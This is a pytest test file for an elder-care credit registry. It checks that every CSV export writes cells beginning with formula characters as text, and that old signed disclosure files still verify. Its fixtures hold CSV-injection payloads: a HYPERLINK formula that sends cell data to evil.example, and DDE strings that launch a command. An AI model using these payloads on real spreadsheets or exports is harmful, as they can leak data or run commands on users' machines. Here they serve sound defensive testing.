"""CSV formula injection: every CSV the system writes shows a cell starting with =, +, -, @, tab or CR as text
(one shared writer, credit.csv_safe); the signed disclosure CSV changed format, so it is versioned, and a
disclosure published in the old format still verifies exactly as stored."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import timedelta

import pytest
from stdnum.cn import uscc as uscc_rules

from credit.accounts.system import system_principal
from credit.csv_safe import csv_text, safe_cell
from credit.disclosures import service as disclosures
from credit.disclosures.signing import sign
from credit.disclosures.tables import Disclosure
from credit.disclosures.verify import check_file, check_stored_chain
from credit.listings.tables import ListingBasis, ListingEntry
from credit.records import service as records
from credit.records.schemas import PenaltyIn
from credit.registry import service as registry
from credit.registry.schemas import InstitutionIn
from credit.seeding import ensure_agencies
from credit.sharing.keys import issue_key
from credit.timeutil import now_utc, today
from credit.validation import typed_from_text

ADMIN = system_principal("setup")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")养老院'
FACTS = "=cmd|' /C calc'!A0"
CONTENT = "+1+1 罚款"
BASIS = "@SUM(1+1)*cmd|' /C calc'!A0"
AGENCY = "-2+3 天宁区民政局"
BASIS_OF_LAW = "=SUM(1,2) 第四十六条"  # stored text is trimmed, so a leading tab cannot reach a file


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("常州=养老", "常州=养老"),
        ("5000.00", "5000.00"),
        (None, ""),
        (3, "3"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value, cell):
    assert safe_cell(value) == cell


def test_a_whole_file_has_a_bom_and_every_cell_made_safe():
    text = csv_text(["a", "=b"], [["-1", "x"]])
    assert text.startswith("\ufeff") and list(csv.reader(io.StringIO(text[1:]))) == [["a", "'=b"], ["'-1", "x"]]


def code(n: int) -> str:
    body = f"52320402MJ{n:07d}"
    return body + uscc_rules.calc_check_digit(body)


@pytest.fixture
async def hostile(client) -> dict:
    """A home whose name, penalty and list entry hold spreadsheet formulas; an agency key."""
    await ensure_agencies()
    home = await registry.create_institution(
        InstitutionIn(
            **{
                "uscc": code(9),
                "name": NAME,
                "district_code": "320402",
                "beds": 60,
                "owner_type": "private_nonprofit",
                "legal_representative": "张建国",
            }
        ),
        ADMIN,
    )
    penalty = await records.create_penalty(
        home["id"],
        typed_from_text(
            PenaltyIn,
            {
                "decision_number": "常民罚〔2026〕9号",
                "facts": FACTS,
                "legal_basis": BASIS_OF_LAW,
                "penalty_kind": "罚款",
                "content": CONTENT,
                "fine_yuan": "5000.00",
                "decision_date": (today() - timedelta(days=5)).isoformat(),
                "deciding_agency": AGENCY,
            },
        ),
        ADMIN,
    )
    entry = ListingEntry(
        subject_kind="institution",
        institution=home["id"],
        behaviour="2",
        status="listed",
        facts=FACTS,
        basis=BASIS,
        proposed_on=today() - timedelta(days=40),
        listed_on=today() - timedelta(days=5),
        expires_on=today() + timedelta(days=3 * 365),
        created_at=now_utc(),
        updated_at=now_utc(),
    )
    await entry.save().run()
    await ListingBasis(entry=entry.id, penalty=penalty["id"]).save().run()
    return {"home": home, "health": {"Authorization": f"Bearer {(await issue_key('health', 'test')).key}"}}


def cells_of(content: bytes) -> list[str]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


def assert_no_formula(cells: list[str], *expected: str) -> None:
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    for value in expected:
        assert "'" + value in cells


@pytest.mark.parametrize(
    "url, agency, expected",
    [
        ("/listings.csv", False, (NAME,)),
        ("/api/v1/exports/listings.csv", False, (NAME, BASIS)),
        ("/api/v1/exports/listings.csv", True, (NAME, BASIS)),
        ("/api/v1/exports/penalties.csv", False, (NAME, FACTS, CONTENT, BASIS_OF_LAW, AGENCY)),
        ("/api/v1/exports/penalties.csv", True, (NAME, FACTS, CONTENT, BASIS_OF_LAW, AGENCY)),
    ],
)
async def test_every_csv_export_shows_formulas_as_text(client, hostile, url, agency, expected):
    response = await client.get(url, headers=hostile["health"] if agency else {})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert_no_formula(cells_of(response.content), *expected)


async def test_the_signed_disclosure_csv_shows_formulas_as_text_and_names_its_format(client, hostile):
    await disclosures.publish(today())
    day = today().isoformat()
    body = await client.get(f"/api/v1/disclosures/{day}")
    table = await client.get(f"/api/v1/disclosures/{day}.csv")
    assert_no_formula(cells_of(table.content), NAME)
    head = body.json()
    assert head["format"] == "eldercredit-disclosure/2" and head["csv_format"] == "eldercredit-disclosure-csv/2"
    assert head["csv_sha256"] == hashlib.sha256(table.content).hexdigest()
    assert next(i["name"] for i in head["institutions"] if i["uscc"] == hostile["home"]["uscc"]) == NAME


async def test_a_disclosure_published_in_the_old_format_still_verifies_exactly_as_stored(client, hostile):
    yesterday = today() - timedelta(days=1)
    old_csv = ("\ufeff" + "统一社会信用代码 uscc,机构名称 name\r\n" + f"{code(9)},=1+2\r\n").encode()
    old = {
        "format": "eldercredit-disclosure/1",
        "day": yesterday.isoformat(),
        "policy_version": "old",
        "previous_digest": "",
        "csv_sha256": hashlib.sha256(old_csv).hexdigest(),
        "institutions_count": 0,
        "list": [],
        "institutions": [],
    }
    old_body = json.dumps(old, ensure_ascii=False, sort_keys=True, separators=(",", ":")).encode()
    old_signature = sign(disclosures.signing_key(), old_body)
    await (
        Disclosure(
            day=yesterday,
            published_at=now_utc(),
            policy_version="old",
            institutions_count=0,
            digest=hashlib.sha256(old_body).hexdigest(),
            previous_digest="",
            signature=old_signature,
            json_body=old_body.decode(),
            csv_body=old_csv.decode(),
        )
        .save()
        .run()
    )
    await disclosures.publish(today())
    key = disclosures.served_public_key()
    stored_body = (await client.get(f"/api/v1/disclosures/{yesterday}")).content
    stored_csv = (await client.get(f"/api/v1/disclosures/{yesterday}.csv")).content
    assert stored_body == old_body and stored_csv == old_csv
    assert all(c.ok for c in check_file(stored_body, old_signature, key, csv_body=stored_csv))
    assert [c.ok for c in await check_stored_chain(key)] == [True, True]
